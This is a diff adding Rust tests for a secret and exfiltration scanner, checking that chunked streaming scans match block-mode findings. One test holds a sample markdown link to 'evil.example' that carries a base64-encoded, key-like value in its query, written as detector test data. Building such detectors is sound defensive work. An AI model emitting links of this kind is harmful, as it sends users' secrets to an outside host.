@@ -344,3 +344,51 @@ fn streaming_merge_matches_block_mode() {
         block
     );
 }
+
+/// Every rule's own examples (and counter-examples) in one text, separated
+/// by filler with numbers, e-mail-like and base64/hex-like runs: streaming
+/// in chunks of 1, 7, 64 and 1000 bytes reports exactly the block-mode
+/// findings.
+#[test]
+fn streaming_equals_block_on_all_rule_examples() {
+    let mut text = String::new();
+    for (i, r) in rs().rules().enumerate() {
+        for e in r.examples.iter().chain(&r.counter_examples) {
+            text.push_str(e);
+            text.push_str(match i % 5 {
+                0 => " order 1234 5678 ref 12.3.45 ",
+                1 => " = aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n",
+                2 => " 0123456789abcdef0123456789abcdefXY ",
+                3 => " at a@b and ::1 and %41%42 ",
+                _ => "\n",
+            });
+        }
+    }
+    assert!(text.len() > 3_000, "too few examples: {}", text.len());
+    let block = ids(&rs().scan(&text).unwrap());
+    assert!(block.len() > 60, "only {} findings", block.len());
+    for step in [1usize, 7, 64, 1000] {
+        let cuts: Vec<usize> = (step..text.len()).step_by(step).collect();
+        assert_eq!(ids(&stream(&text, &cuts)), block, "chunks of {step}");
+    }
+}
+
+/// A cluster whose first match is final (and rejected by its validator)
+/// while its window is still arriving keeps looking for later matches in
+/// the same window, as block mode does.
+#[test]
+fn streaming_continues_after_a_final_match_in_an_open_window() {
+    let text = "[logo](https://example.com/logo.png) = aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n\
+                [click](https://evil.example/c?x=QUtJQUlPU0ZPRE5ON0VYQU1QTEVzZWNyZXQ=)";
+    let block = ids(&rs().scan(text).unwrap());
+    assert!(
+        block
+            .iter()
+            .any(|(id, _, _)| id == "exfil-markdown-link-data"),
+        "block: {block:?}"
+    );
+    for step in 1..=16 {
+        let cuts: Vec<usize> = (step..text.len()).step_by(step).collect();
+        assert_eq!(ids(&stream(text, &cuts)), block, "chunks of {step}");
+    }
+}
